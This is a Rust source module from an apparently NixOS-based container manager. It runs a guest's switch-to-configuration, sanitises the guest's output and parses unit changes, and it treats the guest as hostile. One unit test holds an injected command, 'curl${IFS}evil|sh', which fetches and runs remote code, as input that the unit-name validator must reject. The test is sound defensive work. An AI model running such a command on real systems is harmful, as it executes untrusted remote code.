//! Activation: the guest switches to its current generation, by that generation's own `switch-to-configuration`.

use std::io::{BufRead, BufReader, Read};
use std::sync::mpsc;
use std::time::{Duration, Instant};

use crate::error::{Error, FailedActivation};
use crate::host::Host;
use crate::install;
use crate::name::ContainerName;
use crate::observe::{Cancel, Event, Observer, Phase as Progress, UnitChange};
use crate::power;
use crate::worker::{Answer, AttachCommand, Exit, Request, Stdio};

/// In the guest: the profile's system, whichever generation that is.
const SWITCH: &str = "/init/profile/container/bin/switch-to-configuration";

/// After the switch has ended, how long its last lines may take. A background child may hold the pipe for ever.
const LAST_LINES: Duration = Duration::from_millis(200);

/// A line of a guest is shown, not stored: what is longer is cut.
const LONGEST_LINE: u64 = 64 * 1024;

/// More failed units than this help nobody.
const MOST_UNITS: usize = 64;

enum Said {
    Line(String),
    Ended(Result<Exit, Error>),
}

/// Switches the running guest. `Ok(None)` is success; a failed activation is not an error of ours.
pub(crate) fn switch(
    host: &Host,
    name: &ContainerName,
    observer: &mut dyn Observer,
    cancel: &Cancel,
) -> Result<Option<FailedActivation>, Error> {
    observer.event(Event::Phase(Progress::Activate));
    let begin = Instant::now();
    let mut failed = Vec::new();
    let exit = run(host, name, cancel, &mut |line| {
        let about = units(&line);
        observer.event(Event::Activation { line });
        let Some((change, names)) = about else { return };
        if change == UnitChange::Failed {
            failed.extend(names.iter().take(MOST_UNITS.saturating_sub(failed.len())).cloned());
        }
        observer.event(Event::Units { change, names });
    })?;
    let took = begin.elapsed();
    tracing::debug!(%name, ?exit, ?took, "switch-to-configuration ended");
    Ok(match exit {
        Exit::Code(0) => {
            observer.event(Event::Done { phase: Progress::Activate, took });
            None
        }
        Exit::Code(4) => Some(FailedActivation::UnitsFailed { units: failed }),
        Exit::Code(100) => Some(FailedActivation::NeedsRestart),
        Exit::Signal(signal) => Some(FailedActivation::Killed { signal }),
        other => Some(FailedActivation::Failed { code: other.code() }),
    })
}

/// What a line says about units, as NixOS's `switch-to-configuration` says it (both the one in Perl and the one in
/// Rust): `restarting the following units: a.service, b.service`.
fn units(line: &str) -> Option<(UnitChange, Vec<String>)> {
    const FORMS: [(&str, UnitChange); 8] = [
        ("stopping the following units:", UnitChange::Stopping),
        ("starting the following units:", UnitChange::Starting),
        ("NOT restarting the following changed units:", UnitChange::Kept),
        ("NOT restarting the following units:", UnitChange::Kept),
        ("restarting the following units:", UnitChange::Restarting),
        ("reloading the following units:", UnitChange::Reloading),
        ("the following new units were started:", UnitChange::Started),
        ("warning: the following units failed:", UnitChange::Failed),
    ];
    let line = line.trim();
    let (names, change) =
        FORMS.iter().find_map(|(words, change)| line.strip_prefix(words).map(|names| (names, *change)))?;
    let names: Vec<String> =
        names.split([',', ' ']).filter(|name| is_unit(name)).take(MOST_UNITS).map(str::to_owned).collect();
    (!names.is_empty()).then_some((change, names))
}

/// What systemd lets a unit be called. The guest is hostile, and the name goes into a hint that people copy.
fn is_unit(name: &str) -> bool {
    let fits = |byte: u8| byte.is_ascii_alphanumeric() || b":_.@\\-".contains(&byte);
    !name.is_empty() && name.len() <= 255 && !name.starts_with('-') && name.bytes().all(fits)
}

fn run(
    host: &Host,
    name: &ContainerName,
    cancel: &Cancel,
    line: &mut dyn FnMut(String),
) -> Result<Exit, Error> {
    let pipe = |source| Error::Io { action: "make a pipe for", path: SWITCH.into(), source };
    let (reader, writer) = std::io::pipe().map_err(pipe)?;
    let stdio = Stdio::Fds {
        stdin: std::fs::File::open("/dev/null").map_err(pipe)?.into(),
        stdout: writer.try_clone().map_err(pipe)?.into(),
        stderr: writer.into(),
    };
    let request = Request::Attach { target: power::target(host, name), command: command() };
    // Bounded: a guest that prints for ever waits for us, and does not fill the host's memory.
    let (say, said) = mpsc::sync_channel(1024);
    let lines = say.clone();
    // Not joined: it ends when the last process of the guest closes the pipe, and holds nothing but the pipe.
    std::thread::spawn(move || read_lines(reader, &lines));
    std::thread::scope(|scope| {
        scope.spawn(move || {
            let limit = host.config.timeouts.activate();
            let ended = match host.worker.call(&request, stdio, Some(limit), cancel) {
                Ok(Answer::Exited(exit)) => Ok(exit),
                Ok(other) => Err(install::unexpected(&other)),
                Err(error) => Err(error.into()),
            };
            let _ = say.send(Said::Ended(ended));
        });
        // Until the switch has ended...
        let ended = loop {
            match said.recv() {
                Ok(Said::Line(text)) => line(text),
                Ok(Said::Ended(result)) => break result,
                // Both senders are gone and neither said so: the worker's thread panicked.
                Err(mpsc::RecvError) => return Err(Error::Cancelled),
            }
        };
        // ... and what it had printed by then: no longer, however much is said.
        let end = Instant::now() + LAST_LINES;
        while let Ok(Said::Line(text)) = said.recv_timeout(end.saturating_duration_since(Instant::now())) {
            line(text);
        }
        ended
    })
}

fn read_lines(reader: impl Read, lines: &mpsc::SyncSender<Said>) {
    let mut reader = BufReader::new(reader);
    let mut bytes = Vec::new();
    loop {
        bytes.clear();
        match reader.by_ref().take(LONGEST_LINE).read_until(b'\n', &mut bytes) {
            Ok(0) | Err(_) => return,
            Ok(_) => {}
        }
        // The guest is hostile: its control characters do not reach a terminal.
        let text: String =
            String::from_utf8_lossy(&bytes).chars().filter(|c| !c.is_control() || *c == '\t').collect();
        if lines.send(Said::Line(text)).is_err() {
            return;
        }
    }
}

fn command() -> AttachCommand {
    let variable = |name: &str, value: &str| (name.into(), value.into());
    AttachCommand {
        argv: vec![SWITCH.into(), "switch".into()],
        env: vec![
            variable("PATH", "/run/current-system/sw/bin:/run/wrappers/bin:/bin"),
            variable("HOME", "/root"),
            variable("LC_ALL", "C"),
            // The store is the host's: syncing it is the host's business.
            variable("NIXOS_NO_SYNC", "1"),
        ],
        ..AttachCommand::default()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn units_are_read_as_nixos_names_them() {
        let read = |line| units(line).map(|(change, names)| format!("{change}: {}", names.join(" ")));
        let is = |line, wanted: &str| assert_eq!(read(line).as_deref(), Some(wanted), "{line}");
        is("stopping the following units: a.service, b.timer", "stopping: a.service b.timer");
        is("starting the following units: a.service", "starting: a.service");
        is("restarting the following units: a.service", "restarting: a.service");
        is("NOT restarting the following changed units: a.service", "not restarting: a.service");
        is("reloading the following units: dbus.service", "reloading: dbus.service");
        is("the following new units were started: a.mount", "started: a.mount");
        is("warning: the following units failed: web.service, db.service", "failed: web.service db.service");
        assert_eq!(read("activating the configuration..."), None);
        assert_eq!(read("starting the following units: "), None);
    }

    #[test]
    fn a_hostile_guest_names_only_what_systemd_allows() {
        let (_, names) =
            units("warning: the following units failed: x;$(curl${IFS}evil|sh) -rf a@b.service").unwrap();
        assert_eq!(names, ["a@b.service"]);
        let many = format!("starting the following units: {}", "a.service, ".repeat(1000));
        assert_eq!(units(&many).unwrap().1.len(), MOST_UNITS);
    }

    #[test]
    fn lines_of_a_guest_carry_no_control_characters_and_are_cut() {
        let (say, said) = mpsc::sync_channel(16);
        let mut bytes = b"\x1b[31mred\x07\n".to_vec();
        bytes.extend(vec![b'x'; 70_000]);
        read_lines(&bytes[..], &say);
        drop(say);
        let lines: Vec<String> = said
            .into_iter()
            .filter_map(|said| if let Said::Line(line) = said { Some(line) } else { None })
            .collect();
        assert_eq!(lines[0], "[31mred");
        assert_eq!(lines[1].len(), 65_536);
    }
}
